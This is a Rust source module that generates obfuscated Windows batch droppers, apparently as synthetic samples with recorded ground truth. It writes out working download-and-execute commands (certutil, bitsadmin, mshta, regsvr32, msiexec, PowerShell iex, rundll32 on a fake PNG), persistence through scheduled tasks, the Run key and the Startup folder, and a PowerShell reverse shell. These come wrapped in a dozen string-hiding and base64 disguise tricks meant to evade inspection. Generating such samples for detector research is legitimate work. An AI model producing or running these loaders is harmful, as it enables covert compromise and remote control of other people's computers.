//! Batch files: what links and mails start, and loaders of remote tools.

use super::super::{Dice, Truth, base64, reversed};
use super::{listed, table};

/// What expands to `text` in a line.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two) = (dice.name(), dice.name());
    match dice.below(12) {
        0 => {
            let (letters, places) = table(dice, text, "");
            before.push_str(&format!("set \"{one}={letters}\"\n"));
            places.iter().map(|at| format!("%{one}:~{at},1%")).collect()
        }
        1 => {
            let (letters, places) = table(dice, text, "xyz");
            before.push_str(&format!(
                "set \"{one}={letters}\"\nset \"{two}=\"\nfor %%I in ({}) do call set \"{two}=%%{two}%%%%{one}:~%%I,1%%\"\n",
                listed(places, " ")
            ));
            format!("%{two}%")
        }
        2 => {
            let mark = dice.pick(&["#", "@", "$$", "+;"]).to_owned();
            before.push_str(&format!("set \"{one}={}\"\n", dice.littered(text, &mark)));
            format!("%{one}:{mark}=%")
        }
        3 => {
            // Signs that are dropped, and variables that were never set.
            let mut coded = String::new();
            for letter in text.chars() {
                match dice.below(4) {
                    0 => coded.push('^'),
                    1 => coded.push_str(&format!("%{}%", dice.name())),
                    _ => {}
                }
                coded.push(letter);
            }
            before.push_str(&format!("set {one}={coded}\n"));
            format!("%{one}%")
        }
        4 => {
            before.push_str(&format!(
                "set \"{one}={}\"\nset \"{two}=\"\nfor /l %%I in (0,1,{}) do set \"{two}=!{one}:~%%I,1!!{two}!\"\n",
                reversed(text),
                text.len() - 1
            ));
            format!("%{two}%")
        }
        5 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            for at in order {
                before.push_str(&format!("set {}={}\n", names[at], pieces[at]));
            }
            names.iter().map(|it| format!("%{it}%")).collect()
        }
        6 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let list: Vec<&str> = order.iter().map(|at| pieces[*at].as_str()).collect();
            let mut value = vec![String::new(); pieces.len()];
            for (place, at) in order.iter().enumerate() {
                value[*at] = format!("%%{}", char::from(b'A' + place as u8));
            }
            before.push_str(&format!(
                "for /f \"tokens=1-{} delims=#\" %%A in (\"{}\") do set \"{one}={}\"\n",
                pieces.len(),
                list.join("#"),
                value.concat()
            ));
            format!("%{one}%")
        }
        7 => {
            // Codes of an exit, as letters.
            before.push_str(&format!("set \"{one}=\"\n"));
            for letter in text.bytes() {
                before.push_str(&format!(
                    "cmd /c exit {letter}\nset \"{one}=%{one}%%=ExitCodeAscii%\"\n"
                ));
            }
            format!("%{one}%")
        }
        8 => {
            before.push_str(&format!(
                "for /f \"delims=\" %%A in ('powershell -nop -c \"[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{}'))\"') do set \"{one}=%%A\"\n",
                base64(text.as_bytes())
            ));
            format!("%{one}%")
        }
        9 => {
            before.push_str(&format!(
                ">\"%temp%\\{two}.txt\" echo {}\ncertutil -f -decode \"%temp%\\{two}.txt\" \"%temp%\\{two}.dat\" >nul\nset /p {one}=<\"%temp%\\{two}.dat\"\n",
                base64(text.as_bytes())
            ));
            format!("%{one}%")
        }
        10 => {
            // Letters of C:\Users\Public.
            let public = "C:\\Users\\Public";
            text.chars()
                .map(|it| match public.find(it) {
                    Some(at) => format!("%PUBLIC:~{at},1%"),
                    None => it.to_string(),
                })
                .collect()
        }
        _ => {
            let third = text.len() / 3;
            let (a, b, c) = (&text[..third], &text[third..third * 2], &text[third * 2..]);
            before.push_str(&format!(
                "goto {one}e\n:{one}\nset \"%~1=%~3%~4%~2\"\nexit /b\n:{one}e\ncall :{one} {two} \"{c}\" \"{a}\" \"{b}\"\n"
            ));
            format!("%{two}%")
        }
    }
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => format!("set {name}={}\n", dice.below(9999)),
        1 => "timeout /t 2 /nobreak >nul\n".to_owned(),
        2 => format!("rem {name}\n"),
        3 => "cd /d \"%temp%\"\n".to_owned(),
        4 => format!("if not exist \"%temp%\\{name}\" mkdir \"%temp%\\{name}\"\n"),
        5 => "net session >nul 2>&1\n".to_owned(),
        _ => format!("set \"{name}={} {}\"\n", dice.name(), dice.name()),
    }
}

fn contact(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file) = (dice.name(), dice.name());
    let body = match dice.below(15) {
        0 => {
            let url = truth.url(dice, &[".exe", ".txt"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "certutil.exe -urlcache -split -f {url} \"%temp%\\{file}.exe\" >nul\nstart \"\" \"%temp%\\{file}.exe\"\n"
            )
        }
        1 => {
            let url = truth.url(dice, &[".exe", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "set \"{name}={url}\"\nbitsadmin /transfer {file} /download /priority foreground \"%{name}%\" \"%PUBLIC%\\{file}.exe\" >nul\ncall \"%PUBLIC%\\{file}.exe\"\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".hta", ""]);
            let url = hide(dice, &url, &mut before);
            format!("start /b mshta {url}\n")
        }
        3 => {
            let url = truth.url(dice, &[".sct"]);
            let url = hide(dice, &url, &mut before);
            format!("regsvr32 /s /n /u /i:{url} scrobj.dll\n")
        }
        4 => {
            let url = truth.url(dice, &[".msi", ""]);
            let url = hide(dice, &url, &mut before);
            format!("msiexec.exe /i {url} /quiet /norestart\n")
        }
        5 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "set \"{name}={url}\"\npowershell -w hidden -ep bypass -c \"$w=New-Object Net.WebClient;$w.DownloadString('%{name}%')|iex\"\n"
            )
        }
        6 => {
            let url = truth.url(dice, &[".hta", ""]);
            let url = hide(dice, &url, &mut before);
            format!("schtasks /create /f /sc onlogon /tn \"{file}\" /tr \"mshta.exe {url}\" >nul\n")
        }
        7 => {
            let url = truth.url(dice, &[".exe", ".bat"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {file} /t REG_SZ /f /d \"cmd /c curl -s -o %temp%\\{file}.bat {url} & %temp%\\{file}.bat\"\n"
            )
        }
        8 => {
            let url = truth.url(dice, &[".dll", ".png"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "pushd %ProgramData%\ncurl --silent --insecure --output {file}.png {url} && rundll32 {file}.png,DllMain\npopd\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".exe", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "set \"{name}={url}\"\n>\"%temp%\\{file}.vbs\" echo Set h = CreateObject(\"MSXML2.XMLHTTP\")\n>>\"%temp%\\{file}.vbs\" echo h.Open \"GET\", \"%{name}%\", False\n>>\"%temp%\\{file}.vbs\" echo h.Send\n>>\"%temp%\\{file}.vbs\" echo Set s = CreateObject(\"ADODB.Stream\")\n>>\"%temp%\\{file}.vbs\" echo s.Type = 1 : s.Open : s.Write h.ResponseBody\n>>\"%temp%\\{file}.vbs\" echo s.SaveToFile \"%temp%\\{file}.exe\", 2\ncscript //nologo \"%temp%\\{file}.vbs\"\nstart \"\" \"%temp%\\{file}.exe\"\n"
            )
        }
        10 => {
            let url = truth.url(dice, &[".cmd", ""]);
            let url = hide(dice, &url, &mut before);
            format!("start \"\" /min cmd /c \"curl -fsSL {url} | cmd\"\n")
        }
        11 => {
            // What PowerShell runs stands in the file itself, behind a mark.
            let url = truth.url(dice, &[".ps1", ".txt"]);
            let code = format!(
                "$u = '{url}'\r\nIEX (Invoke-WebRequest -Uri $u -UseBasicParsing).Content\r\n"
            );
            format!(
                "powershell -nop -w hidden -c \"$l=Get-Content -LiteralPath '%~f0'|Where-Object{{$_.StartsWith(':: ')}}|Select-Object -Last 1;iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l.Substring(3))))\"\nexit /b\n:: {}\n",
                base64(code.as_bytes())
            )
        }
        12 => {
            let url = truth.url(dice, &[".hta", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                ">\"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{file}.cmd\" echo start mshta {url}\n"
            )
        }
        13 => {
            let urls = [truth.url(dice, &[".exe", ""]), truth.url(dice, &[".zip", ""])];
            let one = hide(dice, &urls[0], &mut before);
            let two = hide(dice, &urls[1], &mut before);
            format!(
                "for %%U in (\"{one}\" \"{two}\") do (\n  curl -L -o \"%temp%\\{file}.zip\" %%~U\n  tar -xf \"%temp%\\{file}.zip\" -C \"%temp%\"\n)\n"
            )
        }
        _ => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "set \"{name}={host}\"\npowershell -nop -c \"$c=New-Object Net.Sockets.TcpClient('%{name}%',{port});$r=New-Object IO.StreamReader($c.GetStream());while($c.Connected){{iex $r.ReadLine()}}\"\n"
            )
        }
    };
    before + &body
}

/// Whether a word means itself wherever it stands.
fn plain(word: &str) -> bool {
    word.len() > 3
        && word.chars().all(|it| it.is_ascii_alphanumeric() || ['.', '-', '/'].contains(&it))
}

fn wrap(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(6) {
        0 => {
            let mut out =
                format!("@echo off\n>\"%temp%\\{name}.b64\" echo -----BEGIN CERTIFICATE-----\n");
            for line in super::lines(&base64(script.replace('\n', "\r\n").as_bytes()), 64) {
                out.push_str(&format!(">>\"%temp%\\{name}.b64\" echo {line}\n"));
            }
            out + &format!(
                ">>\"%temp%\\{name}.b64\" echo -----END CERTIFICATE-----\ncertutil -decode -f \"%temp%\\{name}.b64\" \"%temp%\\{name}.bat\" >nul\ncall \"%temp%\\{name}.bat\"\n"
            )
        }
        // A line of a batch file has at most 8,191 letters.
        1 if script.len() < 5000 => format!(
            "@echo off\npowershell -nop -w hidden -c \"[IO.File]::WriteAllBytes('%temp%\\{name}.cmd',[Convert]::FromBase64String('{}'))\"\ncmd /c \"%temp%\\{name}.cmd\"\n",
            base64(script.replace('\n', "\r\n").as_bytes())
        ),
        2 | 3 => {
            // The words of the lines in variables, each in pieces.
            let mut sets = Vec::new();
            let mut out = String::new();
            for line in script.lines() {
                if line.starts_with(':') {
                    out.push_str(&format!("{line}\n"));
                    continue;
                }
                let mut words = Vec::new();
                for word in line.split(' ') {
                    if !plain(word) {
                        words.push(word.to_owned());
                        continue;
                    }
                    let mut coded = String::new();
                    for piece in super::lines(word, 3) {
                        let variable = dice.name();
                        sets.push(format!("set \"{variable}={piece}\"\n"));
                        coded.push_str(&format!("%{variable}%"));
                    }
                    words.push(coded);
                }
                out.push_str(&format!("{}\n", words.join(" ")));
            }
            let sets: String =
                dice.order(sets.len()).into_iter().map(|at| sets[at].clone()).collect();
            format!("@echo off\n{sets}{out}")
        }
        _ => script.to_owned(),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = "@echo off\nsetlocal enabledelayedexpansion\n".to_owned();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        script.push_str(&contact(dice, truth));
        // Nothing behind an end is come to.
        if script.ends_with('\n') && script.contains("exit /b\n:: ") {
            break;
        }
    }
    wrap(dice, &script)
}
